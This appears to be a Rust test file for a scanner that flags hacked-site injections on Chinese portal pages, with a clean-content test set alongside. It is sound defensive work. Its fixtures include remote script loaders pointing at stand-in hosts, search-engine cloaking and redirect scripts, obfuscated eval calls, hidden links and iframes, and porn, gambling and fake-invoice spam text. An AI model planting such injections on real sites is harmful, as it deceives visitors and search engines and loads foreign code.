//! Whole pages as break-ins leave them, and clean pages of portals: what the rules say together.

use super::{Document, Hosts, look};
use crate::check::subject::Page;
use crate::diagnostic::FilePath;

/// A page as portals make them, with all that looks like an injection and is none.
const PORTAL: &str = include_str!("portal.html");

/// Where something is put into the page.
#[derive(Clone, Copy)]
enum Slot {
    Title,
    Head,
    Top,
    Body,
    Foot,
    AfterBody,
    AfterHtml,
}

fn page_with(slot: Slot, injected: &str) -> String {
    let (mark, before) = match slot {
        Slot::Title => ("</title>", true),
        Slot::Head => ("</head>", true),
        Slot::Top => ("<div class=\"wrap\">", false),
        Slot::Body => ("<!--正文结束-->", true),
        Slot::Foot => ("<!--页脚结束-->", true),
        Slot::AfterBody => ("</body>", false),
        Slot::AfterHtml => ("</html>", false),
    };
    let both = if before { format!("{injected}{mark}") } else { format!("{mark}{injected}") };
    assert_eq!(PORTAL.matches(mark).count(), 1, "{mark}");
    PORTAL.replacen(mark, &both, 1)
}

fn codes(html: &str) -> Vec<String> {
    let document = Document::parse(html);
    let file = FilePath::new("index.html");
    let page = Page { file: &file, html, document: &document, output: None, seen: &Default::default() };
    let findings = look(&page, &Hosts::of_page(&document));
    findings.iter().map(|finding| finding.diagnostic.code.to_string()).collect()
}

/// Injected forms, each with a rule that must speak.
const INJECTED: &[(Slot, &str, &str)] = &[
    (Slot::Title, "_国产精品无码一区二区三区", "spam-line"),
    (Slot::Title, "-米兰体育", "spliced-title"),
    (Slot::Title, "-开云体育官网", "spam-line"),
    (
        Slot::Head,
        "<meta name=description content='成人免费在线视频软件_久久精品久久久_亚洲国产精品久久久'>",
        "spam-line",
    ),
    (
        Slot::Head,
        "<meta name=keywords content='&#24320;&#20113;&#20307;&#32946;,&#21326;&#20307;&#20250;,&#31859;&#20848;&#20307;&#32946;'>",
        "spam-line",
    ),
    (Slot::Head, "<meta http-equiv=refresh content='0;url=https://www.example.net/'>", "foreign-refresh"),
    (
        Slot::Head,
        "<script>document.write('<scr'+'ipt src=\"//js.example.net/a.js\"></scr'+'ipt>')</script>",
        "suspicious-script",
    ),
    (
        Slot::Head,
        "<script>if(/baiduspider|sogou/i.test(navigator.userAgent)){document.title='x';document.write('y')}</script>",
        "suspicious-script",
    ),
    (
        Slot::Head,
        "<script>if(document.referrer.indexOf('baidu.com')>0){window.location.href='https://www.example.net/'}</script>",
        "suspicious-script",
    ),
    (Slot::Head, "<script>eval(unescape('%64%6f%63%75%6d%65%6e%74'))</script>", "suspicious-script"),
    (
        Slot::Head,
        "<style>.kx{position:absolute;left:-9999px}</style><div class=kx><a href=http://www.example.net/>友情链接</a></div>",
        "hidden-link",
    ),
    (Slot::Top, "<h1>欧美视频在线第一页_午夜影视日本欧洲精品_国产精品99久久久</h1>", "spam-line"),
    (Slot::Top, "<marquee width=1 height=1><a href=https://www.example.net>棋牌</a></marquee>", "hidden-link"),
    (Slot::Body, "<p>日韩av在线播放，欧美av免费观看，国产av一区二区</p>", "spam-line"),
    (Slot::Body, "国\u{200B}产精\u{200B}品_无\u{200B}码视频_一区\u{200B}二区", "spam-line"),
    (Slot::Body, "<p>線上註冊帳號即送體驗禮金，歡迎聯絡專員領取優惠</p>", "script-outlier"),
    (Slot::Body, "<div style='display:none'><a href='http://www.example.net/'>论坛</a></div>", "hidden-link"),
    (Slot::Body, "<a style='font-size:0' href='http://www.example.net/'>论坛</a>", "hidden-link"),
    (Slot::Body, "<div style='text-indent:-9999px'><a href='//www.example.net/'>论坛</a></div>", "hidden-link"),
    (Slot::Body, "<div style='height:0;overflow:hidden'><a href='//www.example.net/'>论坛</a></div>", "hidden-link"),
    (Slot::Body, "<div style='opacity:0'><a href='https://a.example.net/'>论坛</a></div>", "hidden-link"),
    (
        Slot::Body,
        "<span style='color:#fff;background:#ffffff'><a href='https://a.example.net/'>论坛</a></span>",
        "hidden-link",
    ),
    (
        Slot::Body,
        "<div id=lk><a href='https://a.example.net/'>论坛</a></div><script>document.getElementById('lk').style.display='none'</script>",
        "hidden-link",
    ),
    (
        Slot::Body,
        "<p style='position:absolute;top:-2000px'>今年春天各地的朋友相约来到这里玩游戏赢大奖天天有好礼送不停快来参加吧</p>",
        "hidden-text",
    ),
    (Slot::Body, "<iframe src='http://a.example.net/x.htm' width=0 height=0></iframe>", "hidden-frame"),
    (Slot::Body, "<iframe src='http://a.example.net/x.htm' style='display:none'></iframe>", "hidden-frame"),
    (Slot::Body, "<a href='http://www.js5500.com/'>点这里</a>", "suspicious-host"),
    (Slot::Body, "<a href='http://103.21.4.8/'>点这里</a>", "suspicious-host"),
    (Slot::Body, "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">", "suspicious-script"),
    (Slot::Body, "办事\u{202E}指南", "direction-control"),
    (Slot::Foot, "<p>真人娱乐|百家乐平台|时时彩开奖结果|北京赛车官网</p>", "spam-line"),
    (
        Slot::Foot,
        "<a href=a>澳门新葡京官网</a> <a href=b>皇冠体育app下载</a> <a href=c>bet365备用网址</a>",
        "spam-line",
    ),
    (Slot::Foot, "代开发票_增值税专用发票代开_住宿费发票_先开票后付款", "spam-line"),
    (Slot::AfterBody, "<a href='https://a.example.net/'>友情链接</a>", "text-after-page"),
    (Slot::AfterHtml, "<div>无抵押贷款_身份证贷款_当天放款_黑户可贷</div>", "spam-line"),
    (Slot::AfterHtml, "<div>欢迎光临</div>", "text-after-page"),
    (
        Slot::AfterHtml,
        "<script>var s=document.createElement('script');s.src='//t.example.top/a.js';document.head.appendChild(s)</script>",
        "suspicious-script",
    ),
];

#[test]
fn injected_pages_are_found() {
    let missed: Vec<_> = INJECTED
        .iter()
        .map(|(slot, injected, code)| (injected, code, codes(&page_with(*slot, injected))))
        .filter(|(_, code, found)| !found.iter().any(|it| it == *code))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
    assert!(INJECTED.len() >= 24);
}

#[test]
fn a_clean_portal_page_raises_nothing() {
    assert_eq!(codes(PORTAL), [""; 0]);
}

/// What editors and portals write, in the page's text.
#[test]
fn clean_content_raises_nothing() {
    let check = |html: &str| assert_eq!(codes(&page_with(Slot::Body, html)), [""; 0], "{html}");
    check("<p>关于严厉打击网络赌博、六合彩、百家乐等违法犯罪活动的通告</p>");
    check("<p>书法展上，“廉”“義”两幅字最受欢迎</p>");
    check("<p lang=ja>会場の準備を手伝うボランティアを募集</p>");
    check("<p lang=zh-Hant>靜安區文明辦發佈志願者招募公告</p>");
    check("<p>一家人👨‍👩‍👧‍👦来到社区</p>");
    check("<div style='display:none' id=share><a href='https://service.weibo.com/share/share.php'>微博</a></div>");
    check("<div hidden><a href='http://www.beijing.gov.cn/'>北京</a><a href='/about.html'>关于</a></div>");
    check("<h1 style='text-indent:-9999px'>上海静安文明网</h1>");
    check("<a href='https://example.net/'>友邻单位</a>");
    check("<iframe src='https://example.net/map' width=600 height=400></iframe>");
    check("<script>document.write(new Date().getFullYear())</script>");
    check("<a href='javascript:window.print()' onclick='return count(this)'>打印</a>");
    check("<p><a href='http://www.12345.gov.cn/'>12345</a> <a href='https://www.12377.cn'>举报中心</a></p>");
}

/// A page that broke off, at the end of any line, is read without a panic and is no injection for that.
#[test]
fn a_clean_page_that_breaks_off_raises_nothing() {
    for (at, _) in PORTAL.match_indices('\n') {
        assert_eq!(codes(&PORTAL[..at]), [""; 0], "{}", &PORTAL[..at]);
    }
}

/// Injected pages that broke off are read without a panic, whatever is left of the injection.
#[test]
fn broken_scripts_and_styles_are_read() {
    for (slot, injected, _) in INJECTED {
        let whole = page_with(*slot, injected);
        let start = whole.find(injected).expect("it was put there");
        let found = codes(&whole).len();
        for (at, _) in injected.char_indices() {
            assert!(codes(&whole[..start + at]).len() <= found + 1, "{}", &injected[..at]);
        }
    }
}
